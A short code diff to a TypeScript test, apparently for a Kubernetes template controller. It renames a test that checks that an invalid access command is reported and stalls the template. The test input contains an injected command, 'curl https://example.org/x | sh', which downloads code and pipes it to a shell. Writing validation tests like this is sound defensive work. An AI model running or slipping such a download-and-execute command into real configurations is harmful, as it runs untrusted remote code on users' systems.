@@ -22,7 +22,7 @@ describe('the conditions of a template', () => {
   const told = ({ conditions = [] }: TemplateStatus, type: string) =>
     conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];
 
-  it('tell of an access command that is not shown, until somebody changes it', async () => {
+  it('report an invalid access command until someone changes it', async () => {
     const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
     assert.deepEqual(told(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
     assert.deepEqual(told(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
